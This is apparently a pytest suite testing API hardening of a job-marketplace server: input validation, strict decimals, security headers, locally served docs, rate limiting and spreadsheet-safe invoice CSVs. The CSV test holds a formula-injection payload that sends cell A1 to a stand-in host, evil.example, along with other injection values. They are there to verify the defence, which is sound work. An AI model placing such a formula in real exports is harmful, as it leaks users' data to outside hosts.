"""API hardening (issue 15): what a tenant sends gets a 4xx naming the field, never a 500;
nothing is coerced; exports are safe in spreadsheets; the documentation is served from the
package; every response carries security headers; failed keys and submissions are limited."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import Any

import pytest
from pinned import NOW
from pydantic import ValidationError
from starlette.testclient import TestClient

from suanwang.server.app import create_app
from suanwang.server.database.models import TenantRole
from suanwang.server.models.tenants import create_tenant
from suanwang.server.schemas import JobSpec
from suanwang.server.settings import Settings


def _fields(r: Any) -> list[tuple[Any, ...]]:
    return [tuple(e["loc"]) for e in r.json()["detail"]]


def test_a_nul_anywhere_is_a_422_naming_where(
    client: TestClient, alice: Any, body: Callable[..., dict[str, Any]]
) -> None:
    # was a psycopg.DataError (500) on PostgreSQL
    r = client.get("/v1/offers?center=a%00b", headers=alice.headers)
    assert r.status_code == 422, r.text
    assert _fields(r) == [("query", "center")]
    r = client.get("/v1/jobs/a%00b", headers=alice.headers)
    assert r.status_code == 422 and _fields(r) == [("path", "job_id")], r.text
    r = client.post("/v1/jobs", json=body(name="x\x00y"), headers=alice.headers)
    assert r.status_code == 422 and _fields(r) == [("body", "name")], r.text
    r = client.post("/v1/jobs", json=body(stacks=["cuda", "a\x00"]), headers=alice.headers)
    assert r.status_code == 422 and _fields(r) == [("body", "stacks", 1)], r.text
    # an escaped backslash before "u0000" is text, not a NUL
    r = client.post("/v1/jobs", json=body(command="echo \\u0000"), headers=alice.headers)
    assert r.status_code == 201, r.text


def test_a_lone_surrogate_is_a_422_and_other_unicode_is_kept(
    client: TestClient, alice: Any, body: Callable[..., dict[str, Any]]
) -> None:
    # JSON may escape half of a surrogate pair alone; no database stores it
    text = json.dumps(body(name="placeholder")).replace("placeholder", "训练\\ud800x")
    r = client.post(
        "/v1/jobs",
        content=text.encode(),
        headers={**alice.headers, "content-type": "application/json"},
    )
    assert r.status_code == 422 and _fields(r) == [("body", "name")], r.text
    # the same from Python (a job file's YAML, a stored spec read back), in every text field
    # that reaches the database: the fields' patterns refuse it
    for field, value, loc in [
        ("name", "a\ud800", ("name",)),
        ("stacks", ["cuda", "a\udfffb"], ("stacks", 1)),
        ("command", "echo \udc00", ("command",)),
    ]:
        with pytest.raises(ValidationError, match="unicode") as got:
            JobSpec.model_validate({**body(), field: value})
        assert [e["loc"] for e in got.value.errors()] == [loc]
    spec = {k: v for k, v in body().items() if k != "command"}
    with pytest.raises(ValidationError, match="unicode") as got:
        JobSpec.model_validate({**spec, "script": "#!/bin/sh\necho \ud83d"})
    assert [e["loc"] for e in got.value.errors()] == [("script",)]
    # a pair escaped in JSON is one character (and CJK names are names)
    r = client.post("/v1/jobs", json=body(name="训练 \U0001f600 作业"), headers=alice.headers)
    assert r.status_code == 201, r.text
    assert r.json()["name"] == "训练 \U0001f600 作业"


@pytest.mark.parametrize("amount", ["1E+26", "1_000", "\uff15", " 5 ", "1e3", "0x10"])
def test_amounts_are_plain_decimals_as_published(
    client: TestClient, operator: Any, alice: Any, amount: str
) -> None:
    for path, who in (("/v1/billing/topups", "tenant"), ("/v1/billing/payouts", "provider")):
        r = client.post(path, json={who: "alice", "amount_cny": amount}, headers=operator.headers)
        assert r.status_code == 422, (path, r.text)  # 1E+26 was decimal.InvalidOperation: 500
        assert _fields(r) == [("body", "amount_cny")]
        assert "plain decimal" in r.text


def test_a_huge_price_is_a_422_naming_it(client: TestClient, operator: Any) -> None:
    offer = {"center": "wuhu", "model": "A100", "units": 1, "price_cny_per_scu": "1e24",
             "start": "2025-07-01T08:00Z", "end": "2025-07-01T10:00Z"}  # fmt: skip
    r = client.post("/v1/offers", json=offer, headers=operator.headers)
    assert r.status_code == 422 and _fields(r) == [("body", "price_cny_per_scu")], r.text
    schema = client.get("/openapi.json").json()["components"]["schemas"]["OfferRequest"]
    pattern = schema["properties"]["price_cny_per_scu"]["pattern"]
    assert re.fullmatch(pattern, "1e24") is None and re.fullmatch(pattern, "0") is None
    assert re.fullmatch(pattern, "3.2") is not None


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"checkpointable": 0}, ("body", "checkpointable")),
        ({"checkpointable": "true"}, ("body", "checkpointable")),
        ({"data_gb": False}, ("body", "data_gb")),
        ({"duration_s": "7200"}, ("body", "duration_s")),
        ({"resources": {"cards": "8"}}, ("body", "resources", "cards")),
        ({"resources": {"cards": 8.5}}, ("body", "resources", "cards")),
        ({"resources": {"cpus": True}}, ("body", "resources", "cpus")),
    ],
)
def test_nothing_is_coerced(
    client: TestClient,
    alice: Any,
    body: Callable[..., dict[str, Any]],
    change: dict[str, Any],
    field: tuple[Any, ...],
) -> None:
    r = client.post("/v1/jobs", json=body(**change), headers=alice.headers)
    assert r.status_code == 422, r.text
    assert field in _fields(r)


@pytest.mark.parametrize(
    "text", ["a: " + "[" * 5000 + "]" * 5000, "a: " + "9" * 5001, "a: 0x" + "f" * 100]
)
def test_whatif_refuses_a_deep_or_long_numbered_scenario(
    client: TestClient, operator: Any, text: str
) -> None:
    # were a RecursionError and Python's int digits limit: 500s
    r = client.post("/v1/whatif", json={"scenario_yaml": text}, headers=operator.headers)
    assert r.status_code == 422, r.text
    assert _fields(r) == [("body", "scenario_yaml")]
    assert re.search("nested too deeply|a number longer than", r.text)


def test_invoice_csv_cells_are_not_formulas(client: TestClient, alice: Any, operator: Any) -> None:
    from suanwang.server.models.billing.statements import INVOICE_CSV_COLUMNS, invoice_csv

    line = dict.fromkeys(INVOICE_CSV_COLUMNS, "")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    line |= {"job_id": "j1", "name": evil, "amount_cny": "-12.50", "centers": ["@x", "wuhu"],
             "usage_record_ids": [], "kind": "\tcmd"}  # fmt: skip
    text = invoice_csv({"lines": [line], "total_cny": "-12.50", "usage_cny": "0", "free_cny": "0"})
    row = text.splitlines()[1]
    assert "'=HYPERLINK" in row and ",-12.50," in row and "'@x wuhu" in row and "'\tcmd" in row


def test_docs_are_served_from_the_package(client: TestClient) -> None:
    for page in ("/docs", "/redoc"):
        r = client.get(page)
        assert r.status_code == 200
        html = r.text
        assert not re.search(r"(src|href)=\"(https?:)?//", html), html  # no other host
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), "an inline script"
        for url in re.findall(r"(?:src|href)=\"(/[^\"]+)\"", html):
            assert client.get(url).status_code == 200, url
    assert "redoc.standalone.js" in client.get("/redoc").text
    assert "swagger-ui-bundle.js" in client.get("/docs").text


def test_security_headers(client: TestClient, alice: Any) -> None:
    for page in ("/", "/docs", "/redoc"):
        r = client.get(page)
        csp = r.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp
        assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["referrer-policy"] == "no-referrer"
    assert "style-src 'self';" in client.get("/").headers["content-security-policy"]
    console = client.get("/").text
    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>|<style|\sstyle=|\son\w+=", console)
    r = client.get("/v1/jobs", headers=alice.headers)
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["content-security-policy"] == "default-src 'none'; frame-ancestors 'none'"


class Ticks:
    """A monotonic clock that moves only when told."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def _limited_app(tmp_path: Any, ticks: Ticks, **limits: Any) -> tuple[Any, str]:
    app = create_app(Settings(db_url=f"sqlite:///{tmp_path / 'l.db'}", **limits), monotonic=ticks)
    return app, "sqlite"


def test_failed_keys_are_limited_per_address(tmp_path: Any) -> None:
    ticks = Ticks()
    app, _ = _limited_app(tmp_path, ticks, auth_failure_burst=3, auth_failure_rate_per_s=0.5)
    with TestClient(app) as c:
        with app.state.sessions() as s:
            _, key = create_tenant(session=s, name="a", role=TenantRole.CONSUMER, now=NOW)
            s.commit()
        good = {"Authorization": f"Bearer {key}"}
        assert c.get("/v1/jobs", headers=good).status_code == 200  # known good: cached
        bad = {"Authorization": "Bearer sw_wrong"}
        assert [c.get("/v1/jobs", headers=bad).status_code for _ in range(3)] == [401] * 3
        r = c.get("/v1/jobs", headers=bad)
        assert r.status_code == 429 and r.headers["retry-after"] == "2", r.text
        assert c.get("/v1/jobs", headers=good).status_code == 200  # not locked out
        ticks.now += 2  # one token back
        assert c.get("/v1/jobs", headers=bad).status_code == 401
        assert c.get("/v1/jobs", headers=bad).status_code == 429


def test_submissions_are_limited_per_tenant(
    tmp_path: Any, body: Callable[..., dict[str, Any]]
) -> None:
    ticks = Ticks()
    app, _ = _limited_app(tmp_path, ticks, submit_burst=2, submit_rate_per_s=0.25)
    with TestClient(app) as c:
        keys = []
        with app.state.sessions() as s:
            for name in ("a", "b"):
                keys.append(create_tenant(session=s, name=name, role=TenantRole.CONSUMER,
                                          now=NOW)[1])  # fmt: skip
            s.commit()
        a, b = ({"Authorization": f"Bearer {k}"} for k in keys)
        assert [c.post("/v1/jobs", json=body(), headers=a).status_code for _ in range(2)] == [
            201,
            201,
        ]
        r = c.post("/v1/jobs", json=body(), headers=a)
        assert r.status_code == 429 and r.headers["retry-after"] == "4", r.text
        assert c.post("/v1/jobs", json=body(), headers=b).status_code == 201  # per tenant
        ticks.now += 4
        assert c.post("/v1/jobs", json=body(), headers=a).status_code == 201


def test_limits_are_on_by_default_and_configurable() -> None:
    cfg = Settings.from_env({})
    assert cfg.auth_failure_burst > 0 and cfg.submit_burst > 0
    env = {"SUANWANG_AUTH_FAILURE_BURST": "0", "SUANWANG_SUBMIT_RATE": "2.5"}
    cfg = Settings.from_env(env)
    assert cfg.auth_failure_burst == 0 and cfg.submit_rate_per_s == 2.5
    with pytest.raises(ValueError, match="SUANWANG_SUBMIT_BURST"):
        Settings.from_env({"SUANWANG_SUBMIT_BURST": "lots"})
